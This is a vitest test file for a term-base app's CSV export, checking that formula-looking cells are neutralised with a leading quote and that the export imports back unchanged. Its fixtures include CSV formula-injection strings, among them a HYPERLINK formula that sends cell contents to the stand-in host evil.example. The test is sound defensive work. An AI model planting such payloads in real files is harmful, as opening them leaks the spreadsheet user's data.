// Attack: a user who can write terms stores `=HYPERLINK(...)`, `+1`, `-1+1`, `@SUM(1)` or a tab-led text; whoever
// exports the term base as CSV and opens it in a spreadsheet runs them as formulas. The CSV answers each such cell
// prefixed with a single quote, and importing that file gives back exactly the original texts.
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { beforeAll, describe, expect, it } from 'vitest';
import { nextId } from '../../src/db/snowflake.ts';
import type { TestApp } from '../test-app.ts';
import { accessToken, createTestApp } from '../test-app.ts';

const TERMS = [
  { chinese: '公式一', english: '=HYPERLINK("http://evil.example/?d="&A1,"click")', labels: '@SUM(1)', remark: '-1+1' },
  { chinese: '公式二', english: '+1', labels: "'=already quoted", remark: '\tcmd' },
  { chinese: '普通', english: "it's plain", labels: "'text", remark: 'a=b' },
];

let t: TestApp;
let admin: string;
const auth = () => ({ 'Blade-Auth': `bearer ${admin}` });
beforeAll(async () => {
  t = await createTestApp();
  admin = await accessToken(t, 'admin');
  for (const term of TERMS) await t.db.translateEntry.create({ data: { id: nextId(), ...term } });
});

const rowsOf = async () =>
  await t.db.translateEntry.findMany({ orderBy: { chinese: 'asc' }, select: { chinese: true, english: true, labels: true, remark: true } });

describe('CSV export of the term base', () => {
  it('neutralises every formula-looking cell, and the file imports back to the original texts', async () => {
    const before = await rowsOf();
    const res = await request(t.server).get('/api/translate/export').set(auth());
    expect(res.status).toBe(200);
    const cells: string[][] = parse(res.text, { bom: true });
    for (const cell of cells.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    const byChinese = new Map(cells.slice(1).map((c) => [c[0], c]));
    expect(byChinese.get('公式一')!.slice(1, 5)).toEqual(['\'=HYPERLINK("http://evil.example/?d="&A1,"click")', '', "'@SUM(1)", "'-1+1"]);
    expect(byChinese.get('公式二')!.slice(1, 5)).toEqual(["'+1", '', "''=already quoted", "'\tcmd"]);
    expect(byChinese.get('普通')!.slice(1, 5)).toEqual(["it's plain", '', "''text", 'a=b']);

    // Round trip: the entries removed, the exported file imported.
    await t.db.translateEntry.updateMany({ data: { isDeleted: 1 } });
    const commit = await request(t.server)
      .post('/api/translate/import/commit')
      .set(auth())
      .attach('file', Buffer.from(res.text), 'terms.csv');
    expect(commit.body.data, JSON.stringify(commit.body)).toMatchObject({ inserted: 3, errorCount: 0 });
    expect(await rowsOf()).toEqual(before);
  });
});
